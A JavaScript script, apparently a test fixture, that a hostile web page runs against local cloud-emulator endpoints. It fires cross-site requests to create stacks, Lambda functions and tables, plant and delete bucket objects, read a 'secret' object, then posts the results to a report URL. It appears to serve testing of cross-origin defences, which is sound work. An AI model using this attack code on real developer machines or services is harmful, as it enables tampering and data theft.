// What a hostile page tries against each base address. `plan` is given by the server.
"use strict";
const FORM = "application/x-www-form-urlencoded";

function stack(name) {
  return new URLSearchParams({
    Action: "CreateStack", Version: "2010-05-15", StackName: name, TemplateBody: plan.template,
  }).toString();
}

function settled(element) {
  return new Promise((done) => {
    element.onload = element.onerror = () => done();
    setTimeout(done, 8000);
  });
}

async function image(base, name) {
  const found = new Image();
  found.referrerPolicy = "no-referrer";
  const end = settled(found);
  found.src = `${base}/?${stack(name)}`;
  await end;
}

async function signedImage(base, name) {
  const found = new Image();
  found.referrerPolicy = "no-referrer";
  const end = settled(found);
  found.src = `${base}/?${stack(name)}&${plan.signedQuery}`;
  await end;
}

async function submitted(action, type, fields) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  form.action = action; form.method = "POST"; form.enctype = type; form.target = frame.name;
  form.rel = "noreferrer";
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement("textarea");
    input.name = key; input.value = value;
    form.append(input);
  }
  document.body.append(form);
  const end = settled(frame);
  form.submit();
  await end;
}

async function fetched(url, options) {
  try {
    const answer = await fetch(url, { signal: AbortSignal.timeout(8000), ...options });
    return answer.type === "opaque" ? "" : await answer.text();
  } catch (e) {
    return "";
  }
}

function opened(base) {
  return new Promise((done) => {
    const socket = new WebSocket(base.replace("http", "ws") + "/");
    socket.onopen = () => done(true);
    socket.onerror = socket.onclose = () => done(false);
    setTimeout(() => done(false), 8000);
  });
}

async function attack(base, i) {
  const seen = { base, read: [], socket: false };
  const lambda = JSON.stringify({ ...plan.lambda, FunctionName: plan.mark + i });
  await image(base, `${plan.mark}-${i}-image`);
  await signedImage(base, `${plan.mark}-${i}-signed`);
  await submitted(base + "/", FORM, Object.fromEntries(new URLSearchParams(stack(`${plan.mark}-${i}-form`))));
  await submitted(`${base}/${plan.bucket}`, "multipart/form-data", { key: "planted", file: "evil" });
  await submitted(`${base}/${plan.bucket}?delete`, "text/plain", { "<Delete><Object><Key>secret</Key></Object></Delete>": "" });
  navigator.sendBeacon(base + "/", new URLSearchParams(stack(`${plan.mark}-${i}-beacon`)));
  const plain = { method: "POST", headers: { "Content-Type": "text/plain" }, body: lambda };
  seen.read.push(await fetched(`${base}/2015-03-31/functions`, { mode: "no-cors", ...plain }));
  seen.read.push(await fetched(`${base}/2015-03-31/functions/${plan.fn}/invocations`, { mode: "no-cors", ...plain, body: "{}" }));
  seen.read.push(await fetched(`${base}/invocations`, { mode: "no-cors", ...plain, body: "{}" }));
  seen.read.push(await fetched(`${base}/2015-03-31/functions`, plain));
  for (const mode of ["cors", "no-cors"]) {
    seen.read.push(await fetched(`${base}/${plan.bucket}/secret`, { mode }));
    seen.read.push(await fetched(`${base}/_localstack/health`, { mode, referrerPolicy: "no-referrer" }));
    seen.read.push(await fetched(`${base}/?${stack(`${plan.mark}-${i}-${mode}`)}`, { mode }));
  }
  for (const service of ["cloudformation", "dynamodb"]) {
    const headers = { Authorization: plan.authorization.replace("SERVICE", service) };
    const body = service === "dynamodb" ? plan.table : stack(`${plan.mark}-${i}-signed-fetch`);
    if (service === "dynamodb") headers["X-Amz-Target"] = "DynamoDB_20120810.CreateTable";
    headers["Content-Type"] = service === "dynamodb" ? "application/x-amz-json-1.0" : FORM;
    seen.read.push(await fetched(base + "/", { method: "POST", headers, body }));
    if (service === "dynamodb") {
      headers["X-Amz-Target"] = "DynamoDB_20120810.ListTables";
      seen.read.push(await fetched(base + "/", { method: "POST", headers, body: "{}" }));
    }
  }
  seen.read.push(await fetched(`${base}/${plan.bucket}/planted`, { method: "PUT", body: "x" }));
  seen.socket = await opened(base);
  return seen;
}

(async () => {
  const found = await Promise.all(plan.bases.map(attack));
  await fetch(plan.report, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
})();
